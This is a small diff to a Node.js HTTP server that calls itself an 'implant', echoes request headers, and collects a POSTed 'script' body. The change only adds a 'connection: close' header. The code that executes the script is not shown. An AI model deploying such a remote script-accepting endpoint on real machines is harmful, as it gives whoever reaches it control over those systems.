@@ -7,6 +7,8 @@ const TIMEOUT_MS = 30_000
 const OUTPUT = 1_000_000
 
 createServer((request, response) => {
+  // a POST over a connection that idled may be lost on an overloaded machine, and nobody may repeat a POST
+  response.setHeader('connection', 'close')
   if (request.url === '/headers') return response.end(JSON.stringify(request.headers))
   if (request.method !== 'POST') return response.end(`implant ${process.env.NAME || ''}\n`)
   let script = ''
